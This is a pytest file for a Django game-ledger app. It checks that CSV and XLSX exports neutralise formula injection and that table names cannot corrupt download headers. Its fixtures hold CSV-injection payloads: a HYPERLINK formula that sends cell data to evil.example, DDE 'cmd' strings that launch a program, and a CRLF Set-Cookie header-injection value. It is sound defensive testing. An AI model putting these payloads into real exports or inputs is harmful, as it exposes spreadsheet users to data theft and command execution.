"""Every export inert (issue 18, items 4 and 10): player names that look like formulas are
text in every spreadsheet download (CSV: a leading apostrophe; XLSX: string cells, read back
as strings, and no formula in the file), only CSV and XLSX are offered (any other
``_export`` is a 400 that says which exist), money in XLSX is a number, and a table's name
cannot break any download's Content-Disposition."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal
from urllib.parse import unquote, urlencode

import openpyxl
import pytest
from django.urls import reverse

from ledger import cleaning, services
from ledger.models import Game, Player, Table
from scoresheets import pdf

from .book_scenario import build

# What the downloads write from the stored names: the same on any engine (SQLite only in CI).
pytestmark = [pytest.mark.django_db, pytest.mark.engine_independent]

FORMULAS = {
    "Ann": '=HYPERLINK("http://evil.example/?"&A1,"Ann")',
    "Bob": "+SUM(1;2)",
    "Cy": "@cmd|' /C calc'!A0",
}


@pytest.fixture
def evenings(table, keeper):
    built = build(table, keeper)
    for old, new in FORMULAS.items():
        services.player_rename(player=Player.objects.get(table=table, name=old), name=new)
    return built


def standings(client, table, export):
    return client.get(reverse("ledger:table_standings", args=[table.pk]),
                      {"sort": "name", "_export": export})


def test_the_standings_csv_neutralises_formulas(logged_in, table, evenings):
    response = standings(logged_in, table, "csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = sorted(row[0] for row in rows[1:])
    assert names == sorted("'" + name for name in FORMULAS.values())
    money = {row[0]: row[1] for row in rows[1:]}
    assert money["'" + FORMULAS["Bob"]] == "-3.60"  # a negative amount stays a number


def test_the_standings_xlsx_holds_text_not_formulas(logged_in, table, evenings):
    response = standings(logged_in, table, "xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert sorted(cells) == sorted(FORMULAS.values())  # the names as typed, as text
    for name, row in cells.items():
        assert row[0].data_type == "s" and row[0].quotePrefix, name
    # money is a number with two decimals, not text
    bob = cells[FORMULAS["Bob"]]
    assert bob[1].data_type == "n" and Decimal(str(bob[1].value)) == Decimal("-3.60")
    assert bob[1].number_format == "0.00"
    assert sheet.cell(row=1, column=2).value == "Money (USD)"
    assert sorted(row[2].value for row in cells.values()) == [3, 4, 4]  # games, numbers


@pytest.mark.parametrize("export", ["ods", "xls", "yaml", "json", "html", "latex", "tsv",
                                    "CSV", "csv ", "x" * 500])
def test_only_csv_and_xlsx_are_offered(logged_in, table, evenings, export):
    response = standings(logged_in, table, export)
    assert response.status_code == 400
    page = response.content.decode()
    assert "The parameter &#x27;_export&#x27;" in page and "CSV or XLSX" in page
    assert "x" * 30 not in page  # the value is quoted short


def test_the_game_csv_neutralises_formulas(logged_in, table, evenings):
    game = Game.objects.filter(session=evenings["e4"]).first()
    response = logged_in.get(reverse("ledger:game_export", args=[game.pk]))
    text = response.content.decode()
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    for cell in cells:
        assert not cell or cell[0] not in "=+@\t\r" and not (
            cell[0] == "-" and not cleaning.is_plain_decimal(cell)), cell
    assert "'" + FORMULAS["Ann"] in cells and "'" + FORMULAS["Cy"] in cells


NASTY = ['Fri"day; x=y', "Fri\r\nSet-Cookie: a=b", "Café \"Zürich\"", "日本\\/..;",
         "tab\there", "=cmd|'/C calc'!A0"]


def downloads(table, evenings) -> dict[str, str]:
    game = Game.objects.filter(session=evenings["e4"]).first()
    standings_url = reverse("ledger:table_standings", args=[table.pk])
    return {
        "standings csv": f"{standings_url}?_export=csv",
        "standings xlsx": f"{standings_url}?_export=xlsx",
        "hands csv": reverse("ledger:game_export", args=[game.pk]),
        "game pdf": reverse("scoresheets:game_pdf", args=[game.pk]) + "?download=1",
        "blank pdf": reverse("scoresheets:blank_pdf", args=[game.pk]),
        "evening pdf": reverse("scoresheets:session_pdf", args=[evenings["e4"].pk]),
        "evening blank pdf": reverse("scoresheets:session_blank_pdf",
                                     args=[evenings["e4"].pk]) + "?" + urlencode({
            "game": "gin-2", "p1": FORMULAS["Ann"], "p2": FORMULAS["Cy"],
            "first_dealer": FORMULAS["Ann"], "download": "1"}),
    }


@pytest.mark.parametrize("name", NASTY)
def test_a_table_name_cannot_break_any_content_disposition(logged_in, table, evenings, name,
                                                          monkeypatch):
    # the headers are the point here, not the layout: each PDF's page layout (WeasyPrint,
    # seconds a document) is left out; the template, the view and its answer are real
    monkeypatch.setattr(pdf, "_render", lambda html, paper, pages: b"%PDF-1.7\n%%EOF\n")
    Table.objects.filter(pk=table.pk).update(name=name)  # as old data or the admin might
    for what, url in downloads(table, evenings).items():
        response = logged_in.get(url)
        assert response.status_code == 200, what
        header = response["Content-Disposition"]
        assert "\r" not in header and "\n" not in header, what
        assert header.isascii(), what
        match = re.fullmatch(r'(attachment|inline); filename="([A-Za-z0-9._-]+)"'
                             r"(?:; filename\*=UTF-8''([A-Za-z0-9%._~-]+))?", header)
        assert match, (what, header)
        if match.group(3):
            full = unquote(match.group(3))
            assert not set(full) & set('"\\/;\r\n\t'), (what, full)


def test_a_non_ascii_name_is_kept_in_filename_star():
    header = cleaning.content_disposition("Café Zürich-standings.csv")
    assert header == ("attachment; filename=\"Cafe_Zurich-standings.csv\"; "
                      "filename*=UTF-8''Caf%C3%A9%20Z%C3%BCrich-standings.csv")
    assert cleaning.content_disposition("friday-2026-01-29.pdf", attachment=False) == \
        'inline; filename="friday-2026-01-29.pdf"'
